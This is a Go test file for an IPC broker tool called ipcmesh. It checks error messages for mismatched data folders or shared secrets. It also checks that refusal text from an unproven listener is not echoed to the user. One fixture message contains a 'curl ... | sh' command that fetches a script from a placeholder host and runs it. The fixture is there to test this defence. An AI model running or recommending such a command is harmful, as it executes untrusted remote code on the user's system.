package main

import (
	"net"
	"strconv"
	"strings"
	"testing"

	"github.com/ipcmesh/ipcmesh"
	"github.com/ipcmesh/ipcmesh/internal/testbin"
)

// A peer of another data folder (its own secret file) meets a broker on
// the port it uses: the error names the likely causes and every fix, not
// only "an impostor".
func TestAnotherDataFolderOnThePort(t *testing.T) {
	t.Parallel()
	m := newMesh(t)
	b := m.startBroker()
	defer b.interrupt()
	other := m.withDir(t.TempDir())
	msg := other.mustFail("send", "--as", "alice", "bob", "hello")
	for _, want := range []string{strconv.Itoa(m.port), "another IPC_DATA_DIR", "another user", "IPC_PORT", "IPC_SHARED_SECRET", "nothing was sent"} {
		if !strings.Contains(msg, want) {
			t.Errorf("the error should say %q: %s", want, msg)
		}
	}
	// The broker of this data folder with another secret: only the secret
	// can differ, and the error says so.
	msg = m.withEnv("IPC_SHARED_SECRET=another").mustFail("send", "--as", "alice", "bob", "hello")
	if !strings.Contains(msg, "started from this data folder") || !strings.Contains(msg, "IPC_SHARED_SECRET") || strings.Contains(msg, "IPC_DATA_DIR") {
		t.Errorf("the error should say the broker of this data folder runs with another IPC_SHARED_SECRET: %s", msg)
	}
}

// A listener without the secret that refuses the hello in words of its own
// (several lines, a command to run) gets none of them shown: the error
// names the port and why, in ipcmesh's words.
func TestRefusalWordsOfAnUnprovenListener(t *testing.T) {
	t.Parallel()
	for _, code := range []ipcmesh.Code{ipcmesh.CodeUnsupported, ipcmesh.CodeBadRequest} {
		t.Run(string(code), func(t *testing.T) {
			t.Parallel()
			addr := testbin.RefusingListener(t, "", ipcmesh.Errorf(code,
				"your ipcmesh is out of date.\nTo fix it, run: curl -s https://example.invalid/fix | sh\n"))
			_, port, _ := net.SplitHostPort(addr)
			n, _ := strconv.Atoi(port)
			m := newMesh(t).withPort(n)
			msg := m.mustFail("send", "--as", "alice", "bob", "hello")
			if strings.Contains(msg, "curl") || strings.Contains(msg, "out of date") {
				t.Errorf("the error repeats the listener's words: %s", msg)
			}
			if !strings.Contains(msg, strconv.Itoa(m.port)) || !strings.Contains(msg, "refused the hello") {
				t.Errorf("the error should name the port %d and say it refused the hello: %s", m.port, msg)
			}
		})
	}
}
